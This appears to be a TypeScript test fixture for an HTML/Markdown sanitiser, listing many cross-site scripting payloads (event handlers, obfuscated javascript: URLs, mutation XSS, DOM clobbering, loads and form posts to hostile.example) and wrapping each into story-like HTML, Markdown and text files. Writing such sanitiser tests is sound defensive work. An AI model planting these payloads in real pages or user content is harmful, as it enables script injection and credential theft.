/**
 * Texts that want to act. Written for this project, one or more for every class of attack in the published tests of
 * DOMPurify and html5sec; each calls `hacked()` if it succeeds, or fetches from `hostile.example`.
 */

export interface Payload {
	/** The class it belongs to. */
	name: string;
	html: string;
}

const of = (name: string, ...texts: string[]): Payload[] =>
	texts.map((html, at) => ({ name: texts.length > 1 ? `${name} ${at + 1}` : name, html }));

const act = 'hacked()';
const away = 'https://hostile.example/x';
const tab = '\t';

/** Addresses that run a script when they are followed, in the disguises that browsers see through. */
const scriptAddresses = [
	`javascript:${act}`,
	`JaVaScRiPt:${act}`,
	` javascript:${act}`,
	`&#1;javascript:${act}`,
	`java${tab}script:${act}`,
	`java&#10;script:${act}`,
	`java&Tab;script&colon;${act}`,
	`&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${act}`,
	`&#0000106;avascript:${act}`,
	`javascript&#58;${act}`,
	`feed:javascript:${act}`,
	`vbscript:msgbox(1)`,
	`livescript:${act}`,
	`data:text/html,<script>${act}</script>`,
	`data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==`,
	`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>`,
	`blob:https://hostile.example/1`,
	`filesystem:https://hostile.example/1`,
	`view-source:javascript:${act}`
];

/** The attacks. */
export const payloads: readonly Payload[] = [
	...of(
		'a script',
		`<script>${act}</script>`,
		`<SCRIPT SRC="${away}.js"></SCRIPT>`,
		`<script type=module>import "${away}"</script>`,
		`<scr<script>ipt>${act}</scr</script>ipt>`,
		`<script/x>${act}</script>`,
		`<script\f>${act}</script >`,
		`<script>${act}//`,
		`<svg><script>${act}</script></svg>`,
		`<svg><script xlink:href="data:,${act}"></script></svg>`,
		`<math><script>${act}</script></math>`
	),
	...of(
		'a handler',
		`<img src=x onerror=${act}>`,
		`<img src="x" OnErRoR="${act}">`,
		`<img/src="x"/onerror="${act}">`,
		`<img src=x:x onerror\n=\n${act}>`,
		`<p onclick="${act}" onmouseover=${act} onfocus='${act}' tabindex=1 autofocus>press</p>`,
		`<b onpointerenter=${act} contenteditable onbeforeinput=${act}>b</b>`,
		`<body onload=${act}>`,
		`<details open ontoggle=${act}>d</details>`,
		`<p onanimationstart=${act} style="animation:x 1s">x</p>`,
		`<video src=x onerror=${act}></video><audio src=x onerror=${act}></audio>`,
		`<video><source onerror=${act}></video>`,
		`<marquee onstart=${act}>m</marquee>`,
		`<input autofocus onfocus=${act}>`,
		`<a href="https://example.org" onclick="${act}">link</a>`,
		`<blockquote onwheel=${act}><p onscrollend=${act}>q</p></blockquote>`,
		`<table onclick=${act}><tr onclick=${act}><td onclick=${act}>c</td></tr></table>`
	),
	...scriptAddresses.flatMap((url, at) =>
		of(
			`an address ${at + 1}`,
			`<a href="${url}">link</a>`,
			`<img src="${url}" alt="picture">`,
			`<a xlink:href="${url}" href=${url.replace(/[\s>]/g, '')}>link</a>`
		)
	),
	...of(
		'addresses elsewhere',
		`<form action="javascript:${act}"><button formaction="javascript:${act}">b</button></form>`,
		`<object data="javascript:${act}"></object><embed src="javascript:${act}">`,
		`<blockquote cite="javascript:${act}">q</blockquote><q cite="javascript:${act}">q</q>`,
		`<table background="javascript:${act}"><tr><td background="${away}">c</td></tr></table>`,
		`<img lowsrc="javascript:${act}" dynsrc="javascript:${act}" longdesc="${away}" src="x.png">`,
		`<a ping="${away}" href="https://example.org">link</a>`
	),
	...of(
		'SVG',
		`<svg onload=${act}></svg>`,
		`<svg/onload=${act}>`,
		`<svg><animate onbegin=${act} attributeName=x></animate></svg>`,
		`<svg><a><animate attributeName=href values="javascript:${act}"/><text>t</text></a></svg>`,
		`<svg><set attributeName=onmouseover to=${act}></svg>`,
		`<svg><use href="${away}#x"/><image href="${away}.png"/></svg>`,
		`<svg><foreignObject><iframe srcdoc="<script>parent.${act}</script>"></iframe></foreignObject></svg>`,
		`<svg><desc><img src=x onerror=${act}></desc><title><img src=x onerror=${act}></title></svg>`
	),
	...of(
		'mutation',
		`<svg></p><style><a id="</style><img src=x onerror=${act}>">`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
		`<svg><p><style><g title="</style><img src=x onerror=${act}>"></p></svg>`,
		`<noscript><p title="</noscript><img src=x onerror=${act}>">`,
		`<math><mi//xlink:href="data:x,<script>${act}</script>"><annotation-xml encoding="text/html"><svg><style><img src=x onerror=${act}></style></svg></annotation-xml></math>`,
		`<p><svg><title><![CDATA[</title><img src=x onerror=${act}>]]></svg>`,
		`<table><caption><svg><desc><table><mglyph><style><!--</style><img title="--><img src=x onerror=${act}>">`,
		`<b><i><table><tr><td><p></b></i><a href=1><table><a href="javascript:${act}">x`,
		`<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${act}>">`,
		`${'<b>'.repeat(300)}<img src=x onerror=${act}>${'</b>'.repeat(300)}`,
		`${'<svg><desc>'.repeat(120)}<style><a title="</style><img src=x onerror=${act}>">`
	),
	...of(
		'raw text',
		`<template><script>${act}</script><img src=x onerror=${act}></template>`,
		`<xmp><p title="</xmp><img src=x onerror=${act}>"></xmp>`,
		`<noembed><p title="</noembed><img src=x onerror=${act}>"></noembed>`,
		`<noframes><p title="</noframes><img src=x onerror=${act}>"></noframes>`,
		`<textarea><p title="</textarea><img src=x onerror=${act}>"></textarea>`,
		`<title><p title="</title><img src=x onerror=${act}>"></title>`,
		`<style><p title="</style><img src=x onerror=${act}>"></style>`,
		`<iframe><p title="</iframe><img src=x onerror=${act}>"></iframe>`,
		`<plaintext><img src=x onerror=${act}>`,
		`<listing>&lt;img src=x onerror=${act}&gt;</listing>`,
		`<!--><img src=x onerror=${act}>-->`,
		`<!-- --!><img src=x onerror=${act}> -->`,
		`<![CDATA[<img src=x onerror=${act}>]]>`,
		`<?xml version="1.0"?><?x ><img src=x onerror=${act}>?>`,
		`<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${act}>">]>&y;`,
		`<%<!--'%><script>${act}</script -->`
	),
	...of(
		'DOM clobbering',
		`<a id=defaultView name=cookie href="cid:x">a</a><a id=body>b</a>`,
		`<form id=document><input name=body><input name=cookie></form>`,
		`<img name=getElementById id=getElementById src=x.png>`,
		`<form><input name=attributes><input name=nodeName><input name=parentNode></form>`,
		`<a id=x><a id=x name=y href="javascript:${act}">a</a>`,
		`<p id="__proto__" name="constructor">p</p>`,
		`<iframe name=self srcdoc="<a id=top>"></iframe>`
	),
	...of(
		'style',
		`<style>@import "${away}.css"; p { background: url(${away}) }</style>`,
		`<p style="background:url(${away})">p</p>`,
		`<p style="position:fixed;inset:0;width:expression(${act})">p</p>`,
		`<link rel=stylesheet href="${away}.css"><link rel=preload as=image href="${away}">`,
		`<b style="-moz-binding:url(${away}#x);behavior:url(${away})">b</b>`,
		`<font color="red" face="url(${away})" style=x>f</font>`,
		`<p class="sr-only modal-open prose">p</p>`
	),
	...of(
		'a form',
		`<form action="${away}"><input type=password name=p><button>Sign in</button></form>`,
		`<button form=x formaction="${away}">b</button><input type=image src="${away}">`,
		`<select><option>o</option></select><textarea>t</textarea><label for=x>l</label>`,
		`<isindex type=image src=1 onerror=${act}><keygen autofocus onfocus=${act}>`,
		`<dialog open>d</dialog><p popover id=p>p</p><button popovertarget=p>b</button>`
	),
	...of(
		'a frame',
		`<iframe src="${away}"></iframe>`,
		`<iframe srcdoc="&lt;script&gt;parent.${act}&lt;/script&gt;"></iframe>`,
		`<frameset onload=${act}><frame src="javascript:parent.${act}"></frameset>`,
		`<object type="text/html" data="${away}"><param name=src value="${away}"></object>`,
		`<embed src="${away}.swf" allowscriptaccess=always><applet code=x></applet><portal src="${away}">`,
		`<fencedframe src="${away}"></fencedframe>`
	),
	...of(
		'the document',
		`<base href="${away}"><a href="page">relative</a>`,
		`<base target="_top"><a href="https://example.org" target=_blank rel=opener>link</a>`,
		`<meta http-equiv=refresh content="0;url=javascript:${act}">`,
		`<meta http-equiv="Content-Security-Policy" content="script-src *">`,
		`<html manifest="${away}"><head><title>t</title></head><body background="${away}">`,
		`<portal src=x></portal><slot name=s></slot><x-element is=x></x-element>`,
		`<p is="x-p" slot=s part=p exportparts=p itemscope nonce=n inert>p</p>`
	),
	...of(
		'loads from elsewhere',
		`<img src="${away}.png" alt="far">`,
		`<img src="//hostile.example/x.png">`,
		`<img src="\\\\hostile.example\\x.png">`,
		`<img src="/\\hostile.example/x.png">`,
		`<img src="x.png" srcset="${away}.png 2x" sizes=1px>`,
		`<picture><source srcset="${away}.png"><img src="x.png"></picture>`,
		`<img src="../../private.png"><img src="pictures/%2e%2e/%2e%2e/private.png">`,
		`<video poster="${away}.png"><track src="${away}.vtt"></video>`,
		`<input type=image src="${away}.png">`,
		`<img src="https:hostile.example/x.png"><img src="ht${tab}tps://hostile.example/x.png">`,
		`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGFja2VkKCk+">`,
		`<img src="data:image/png;base64,x" onload=${act} crossorigin usemap=#m ismap>`,
		`<map name=m><area href="javascript:${act}"></map>`
	),
	...of(
		'tags that are none',
		`<img """><script>${act}</script>">`,
		`<<script>${act}//<</script>`,
		`<a href='x'onclick='${act}'>a</a>`,
		`<p/onclick=${act}/x>p</p>`,
		`<img src='x' a="'" onerror=${act} b="'">`,
		`<\0script>${act}</\0script>`,
		`\u2028<img src=x onerror=${act}>\u2029`,
		`＜script＞${act}＜/script＞`,
		`+ADw-script+AD4-${act}+ADw-/script+AD4-`,
		`<p title="${'x'.repeat(25_000)}" onclick=${act}>p</p>`,
		`&lt;img src=x onerror=${act}&gt;`,
		`&amp;lt;img src=x onerror=${act}&amp;gt;`,
		`<a href="https://example.org/&quot;onclick=&quot;${act}">a</a>`,
		`<img alt="&quot; onerror=&quot;${act}" src=x.png>`,
		`<img alt="&lt;/p>&lt;script>${act}&lt;/script>" src="x.png">`,
		`<a href="https://example.org/&lt;script>${act}">a</a>`
	),
	...of(
		'templates and policies',
		`<p>{{constructor.constructor('${act}')()}}</p><p ng-app v-html="${act}">\${${act}}</p>`,
		`<p data-bind="${act}" data-action="click->x" hx-get="${away}" x-on:click="${act}">p</p>`,
		`<script>trustedTypes.createPolicy('default', { createHTML: (x) => x })</script>`,
		`<p aria-owns=x role=alert accesskey=x>p</p>`
	),
	...of(
		'Markdown',
		`[link](javascript:${act})`,
		`[link](JAVASCRIPT:${act} "title")`,
		`[link](&#106;avascript:${act})`,
		`[link](java\\script:${act})`,
		`[link](<javascript:${act}>)`,
		`[link](https://example.org/"onclick="${act})`,
		`[link](https://example.org/'><script>${act}</script>)`,
		`![picture](javascript:${act})`,
		`![picture](x.png"onerror="${act})`,
		`!["onerror="${act}](x.png)`,
		`![a](https://hostile.example/x.png)`,
		`![a](data:text/html;base64,PHNjcmlwdD4=)`,
		`<javascript:${act}>`,
		`<https://example.org/"onclick="${act}>`,
		`**<img src=x onerror=${act}>** *<script>${act}</script>*`,
		`\`<img src=x onerror=${act}>\``,
		`| <img src=x onerror=${act}> | b |\n|---|---|\n| <script>${act}</script> | [a](javascript:${act}) |`,
		`- <img src=x onerror=${act}>\n- [a](javascript:${act})`,
		`Note[^1]\n\n[^1]: <img src=x onerror=${act}>`,
		`港《<img src=x onerror=${act}>》｜<b>《みなと》`,
		`> <script>${act}</script>\n> <iframe src="${away}">`,
		`# <img src=x onerror=${act}>`,
		`<ruby onclick=${act}>港<rt onclick=${act}>みなと</rt></ruby>`,
		`<i onclick=${act}>i</i><a href="javascript:${act}" onclick=${act}>a</a><br onclick=${act}>`
	)
];

/** Every payload as files that people give: as HTML, as Markdown and within plain text, in the text and in each field. */
export function filesOf({ html }: Payload): { name: string; text: string }[] {
	const line = html.replace(/[\0\n\r\f\u2028\u2029]/g, ' ');
	const yaml = JSON.stringify(line.slice(0, 2000));
	const front = `---\ntitle: ${yaml}\nauthor: ${yaml}\nsummary: ${yaml}\ntags: [${yaml}]\nwarnings: [${yaml}]\nnote: ${yaml}\nend-note: ${yaml}\ncollection: ${yaml}\nrating: ${yaml}\ncover: ${yaml}\ncover-alt: ${yaml}\nid: ${yaml}\nlang: ${yaml}\n${JSON.stringify(line.slice(0, 100))}: ${yaml}\n---\n\nThe rain stopped.\n\n${html}\n`;
	const heads = `Title: ${line}\nBy: ${line}\nSummary: ${line}\nTags: ${line}\nTW: ${line}\nWords: ${line}\n\nA/N: ${line}\n\nChapter 1: ${line.slice(0, 80)}\n\nThe rain stopped.\n\n${html}\n\n***\n\n**[${line.slice(0, 60)}]**\n\nIt went on.\n\nA/N: ${html}\n`;
	return [
		{
			name: 'a.html',
			text: `<h1>${html}</h1><p>The rain stopped.</p>${html}<p>It went on.</p><hr><p>${html}</p>`
		},
		{
			name: 'a.html',
			text: `<p>The rain stopped.</p><ul><li>${html}</li><li>two</li></ul><table><tr><td>${html}</td></tr></table><blockquote>${html}</blockquote><p>It went on.</p>`
		},
		{
			name: 'a.html',
			text: `<title>${html}</title><meta name=author content="${line.replace(/"/g, '&quot;')}"><p>The rain stopped.</p>`
		},
		{
			name: 'a.md',
			text: `The rain stopped.\n\n${html}\n\n> ${line}\n\n- ${line}\n- two\n\nIt went on.\n`
		},
		{ name: 'a.txt', text: `The rain stopped.\n\n${html}\n\nIt went on.\n\n***\n\n${html}\n` },
		{ name: 'a.md', text: front },
		{ name: 'a.txt', text: heads },
		{ name: 'a.md', text: heads }
	];
}
